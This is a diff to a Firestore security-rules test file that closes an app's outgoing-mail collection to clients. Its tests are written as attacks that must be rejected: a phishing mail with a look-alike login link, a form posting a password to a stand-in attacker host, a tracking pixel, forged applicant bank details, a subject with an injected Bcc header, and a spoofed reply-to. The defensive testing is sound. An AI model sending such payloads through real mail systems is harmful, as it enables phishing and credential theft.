@@ -4,7 +4,8 @@
  *
  * Run with `npm run test:rules`: scripts/test-emulators.mjs starts firebase-tools' emulators with
  * Java 21, otherwise the Cloud SDK's standalone Firestore emulator, and sets FIRESTORE_EMULATOR_HOST.
- * Decision records: docs/decisions/0005-security-rules.md, 0021-newsletter-one-per-address.md.
+ * Decision records: docs/decisions/0005-security-rules.md, 0021-newsletter-one-per-address.md,
+ * 0056-only-the-company-writes-its-mail.md.
  */
 import { assertFails, assertSucceeds } from '@firebase/rules-unit-testing';
 import { createHash } from 'node:crypto';
@@ -21,6 +22,7 @@ import {
   Timestamp,
   updateDoc,
   where,
+  writeBatch,
 } from 'firebase/firestore';
 import { firestoreRulesEnvironment, type Data } from './firestore-rules-environment';
 import { beforeEach, describe, expect, it } from 'vitest';
@@ -51,169 +53,68 @@ function withMessage(base: Data, changes: Data): Data {
   return { ...base, message: { ...(base.message as Data), ...changes } };
 }
 
-function without(data: Data, key: string): Data {
-  const copy = { ...data };
-  delete copy[key];
-  return copy;
-}
-
 function createIn(collectionName: string, data: Data, id: string = autoId()): Promise<void> {
   return setDoc(doc(visitorDb(), collectionName, id), data);
 }
 
-describe('mail (job application e-mails for the Trigger Email extension)', () => {
-  it('accepts a well-formed application e-mail from an anonymous visitor', async () => {
-    await assertSucceeds(createIn('mail', validMail()));
-  });
-
-  it('accepts subject, text and html at their maximum sizes', async () => {
-    const data = withMessage(validMail(), {
-      subject: 's'.repeat(300),
-      text: 't'.repeat(100_000),
-      html: 'h'.repeat(200_000),
-    });
-    await assertSucceeds(createIn('mail', data));
-  });
-
-  it('refuses a mail addressed to anyone but the onboarding address', async () => {
-    await assertFails(createIn('mail', { ...validMail(), to: ['someone.else@example.net'] }));
-  });
-
-  it('refuses a mail addressed to the onboarding address and a second address', async () => {
-    const to = [company.onboardingEmail, 'someone.else@example.net'];
-    await assertFails(createIn('mail', { ...validMail(), to }));
-  });
-
-  it('refuses a mail whose `to` is a string instead of a list', async () => {
-    await assertFails(createIn('mail', { ...validMail(), to: company.onboardingEmail }));
-  });
-
-  it('refuses a mail whose `to` is an empty list', async () => {
-    await assertFails(createIn('mail', { ...validMail(), to: [] }));
-  });
-
-  it('refuses a mail addressed to the onboarding address written with capitals', async () => {
-    const to = [company.onboardingEmail.toUpperCase()];
-    await assertFails(createIn('mail', { ...validMail(), to }));
-  });
-
-  it('refuses a mail addressed to the onboarding address twice', async () => {
-    const to = [company.onboardingEmail, company.onboardingEmail];
-    await assertFails(createIn('mail', { ...validMail(), to }));
-  });
-
+describe('mail (what the Trigger Email extension sends): closed to every client', () => {
+  // What a stranger with curl and the site's public config tried before this collection was closed
+  // (docs/decisions/0056-only-the-company-writes-its-mail.md): each would have gone out from the
+  // company's own authenticated address to the company's own inbox.
   it.each([
-    ['cc', ['someone.else@example.net']],
-    ['bcc', ['someone.else@example.net']],
-    ['from', 'Spoofed Sender <ceo@example.com>'],
-    ['headers', { 'X-Priority': '1' }],
-    ['attachments', [{ filename: 'a.txt', content: 'hello' }]],
-    ['template', { name: 'welcome', data: {} }],
-    ['delivery', { state: 'SUCCESS' }],
-    ['delivery', { state: 'RETRY' }],
-    ['retry', { count: 0 }],
-    ['expireAt', Timestamp.fromMillis(Date.now() + 60_000)],
-    ['alertFor', 'ExistingMail00000001'],
-    ['toUids', ['some-user-id']],
-    ['bccUids', ['some-user-id']],
-    ['categories', ['bulk']],
-  ])('refuses a mail with the extra top-level key `%s`', async (key, value) => {
-    await assertFails(createIn('mail', { ...validMail(), [key]: value }));
+    [
+      'a phishing mail about the mailbox password, with a look-alike login link',
+      withMessage(validMail(), {
+        subject: 'ACTION REQUIRED: onboarding mailbox password expires today',
+        html: '<p>Keep your access: <a href="https://roadready-login.example.net">sign in</a></p>',
+      }),
+    ],
+    [
+      'a form that posts a password',
+      withMessage(validMail(), {
+        html: '<form action="https://evil.example" method="post"><input type="password" name="p"><button>Keep</button></form>',
+      }),
+    ],
+    [
+      'a tracking pixel',
+      withMessage(validMail(), {
+        html: '<img src="https://evil.example/pixel.gif" width="1" height="1">',
+      }),
+    ],
+    [
+      'a forged verdict',
+      withMessage(validMail(), { html: '<p>✓ Meets every stated requirement</p>' }),
+    ],
+    [
+      'a forged update of a real applicant with new bank details',
+      withMessage(validMail(), {
+        subject: 'Updated Job Application — Jane Applicant: new bank details inside',
+      }),
+    ],
+    [
+      'a subject with a line break',
+      withMessage(validMail(), { subject: 'Hello\r\nBcc: all@example.org' }),
+    ],
+    ['a 150,000-character html body', withMessage(validMail(), { html: 'h'.repeat(150_000) })],
+    [
+      'a reply-to with a display name',
+      { ...validMail(), replyTo: '"RoadReady-IT-Helpdesk"<attacker@example.net>' },
+    ],
+    ['a mail to someone else', { ...validMail(), to: ['someone.else@example.net'] }],
+    ['even a well-formed application mail, exactly as the product writes it', validMail()],
+  ])('refuses %s', async (_label, data) => {
+    await assertFails(createIn('mail', data));
   });
 
-  it.each(['to', 'replyTo', 'message', 'createdAt'])(
-    'refuses a mail without its `%s` key',
-    async (key) => {
-      await assertFails(createIn('mail', without(validMail(), key)));
-    },
-  );
-
-  it.each([
-    ['amp', '<p>amp</p>'],
-    ['attachments', [{ filename: 'a.txt', content: 'hello' }]],
-    ['messageId', 'custom-id'],
-  ])('refuses a mail whose message has the extra key `%s`', async (key, value) => {
-    await assertFails(createIn('mail', withMessage(validMail(), { [key]: value })));
-  });
-
-  it.each(['subject', 'text', 'html'])(
-    'refuses a mail whose message lacks its `%s`',
-    async (key) => {
-      const data = { ...validMail(), message: without(validMail().message as Data, key) };
-      await assertFails(createIn('mail', data));
-    },
-  );
-
-  it('refuses a subject longer than 300 characters', async () => {
-    await assertFails(createIn('mail', withMessage(validMail(), { subject: 's'.repeat(301) })));
-  });
-
-  it('refuses a text body longer than 100,000 characters', async () => {
-    await assertFails(createIn('mail', withMessage(validMail(), { text: 't'.repeat(100_001) })));
-  });
-
-  it('refuses an html body longer than 200,000 characters', async () => {
-    await assertFails(createIn('mail', withMessage(validMail(), { html: 'h'.repeat(200_001) })));
-  });
-
-  it.each(['subject', 'text', 'html'])('refuses an empty %s', async (key) => {
-    await assertFails(createIn('mail', withMessage(validMail(), { [key]: '' })));
-  });
-
-  it('refuses a subject that is a number', async () => {
-    await assertFails(createIn('mail', withMessage(validMail(), { subject: 42 })));
-  });
-
-  it('refuses a message that is a string instead of a map', async () => {
-    await assertFails(createIn('mail', { ...validMail(), message: 'Hello onboarding team' }));
-  });
-
-  it.each([
-    ['not an e-mail address', 'jane applicant'],
-    ['missing the domain', 'jane@'],
-    ['missing the top-level domain', 'jane@example'],
-    ['containing a space', 'jane doe@example.org'],
-    ['with two @', 'jane@doe@example.org'],
-    ['longer than 254 characters', `${'j'.repeat(250)}@example.org`],
-  ])('refuses a replyTo %s', async (_label, replyTo) => {
-    await assertFails(createIn('mail', { ...validMail(), replyTo }));
-  });
-
-  it('refuses an empty replyTo', async () => {
-    await assertFails(createIn('mail', { ...validMail(), replyTo: '' }));
-  });
-
-  it('refuses a replyTo that is not a string', async () => {
-    await assertFails(createIn('mail', { ...validMail(), replyTo: ['jane@example.org'] }));
-  });
-
-  it('refuses a createdAt set from the client clock instead of the server timestamp', async () => {
-    await assertFails(createIn('mail', { ...validMail(), createdAt: new Date() }));
-  });
-
-  it('refuses a createdAt that is a client Timestamp', async () => {
-    await assertFails(createIn('mail', { ...validMail(), createdAt: Timestamp.now() }));
-  });
-
-  it('refuses a createdAt that is a date written as a string', async () => {
-    await assertFails(createIn('mail', { ...validMail(), createdAt: '2026-01-01T00:00:00Z' }));
-  });
-
-  it('refuses a createdAt that is null', async () => {
-    await assertFails(createIn('mail', { ...validMail(), createdAt: null }));
-  });
-
-  it('refuses a mail without createdAt', async () => {
-    await assertFails(createIn('mail', without(validMail(), 'createdAt')));
-  });
-
-  it.each([
-    ['too short', 'abc123'],
-    ['21 characters long', 'A'.repeat(21)],
-    ['containing a hyphen', 'abcdefghij-klmnopqrs'],
-    ['containing an underscore', 'abcdefghij_klmnopqrs'],
-  ])('refuses a document id that is %s', async (_label, id) => {
-    await assertFails(createIn('mail', validMail(), id));
+  it('refuses a flood: none of 50 mails created at once, nor a batch of them, is accepted', async () => {
+    const results = await Promise.allSettled(
+      Array.from({ length: 50 }, () => createIn('mail', validMail())),
+    );
+    expect(results.every((result) => result.status === 'rejected')).toBe(true);
+    const db = visitorDb();
+    const batch = writeBatch(db);
+    for (let index = 0; index < 20; index += 1) batch.set(doc(db, 'mail', autoId()), validMail());
+    await assertFails(batch.commit());
   });
 
   describe('an existing mail document', () => {
@@ -413,7 +314,7 @@ describe('newsletterSubscriptions (one per address)', () => {
 });
 
 describe('every other collection', () => {
-  it.each(['applications', 'users', 'mailTemplates', 'mail_outbox'])(
+  it.each(['users', 'mailTemplates', 'mail_outbox', 'applicationHours', 'applicantConfirmations'])(
     'refuses a write to `%s`, even of a well-formed mail document',
     async (collectionName) => {
       await assertFails(createIn(collectionName, validMail()));
